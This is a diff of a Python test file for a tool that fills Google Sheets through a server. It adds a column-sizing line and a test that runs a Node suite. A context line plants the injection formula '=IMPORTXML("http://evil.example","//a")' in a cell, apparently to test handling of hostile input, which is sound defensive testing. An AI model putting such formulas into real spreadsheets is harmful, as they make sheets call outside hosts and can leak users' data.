@@ -105,6 +105,8 @@ def test_run_now_from_the_google_menu_fills_the_sheet_through_a_real_server(
     book = generate_demo(tmp_path / "Team.xlsx", 60, as_of=dt.datetime(2026, 12, 7, 11, 0))
     grid = _grid_of(book, server)
     grid["sheets"][0]["values"][5][2] = '=IMPORTXML("http://evil.example","//a")'  # a name
+    # a Sheet's grid ends at its last column: forecourt's new columns need room made first
+    grid["sheets"][0]["maxColumns"] = len(grid["sheets"][0]["values"][0])
 
     out = run_menu(exported, grid, tmp_path, "--call", "forecourtRunNow")
 
@@ -171,3 +173,13 @@ def test_a_status_changed_on_the_phone_stamps_the_times_with_forecourt_s_own_wor
     got = tuple(isinstance(v, dict) and v.get("date", "").startswith("2026-12-07T10:15")
                 for v in row[4:7])
     assert got == stamped, row
+
+
+def test_the_node_suite_of_the_google_menu_passes() -> None:
+    """tests/node/: our onEdit stamping and the fake Apps Script world, checked against
+    xlwings.js' own behaviour (run with `TZ=UTC node --test tests/node/`)."""
+    proc = subprocess.run([NODE, "--test", str(ROOT / "tests" / "node")], capture_output=True,
+                          text=True, timeout=300, env={**os.environ, "TZ": "UTC",
+                                                       "PYTHON": sys.executable})
+    assert proc.returncode == 0, proc.stdout[-4000:] + proc.stderr[-2000:]
+    assert "# fail 0" in proc.stdout
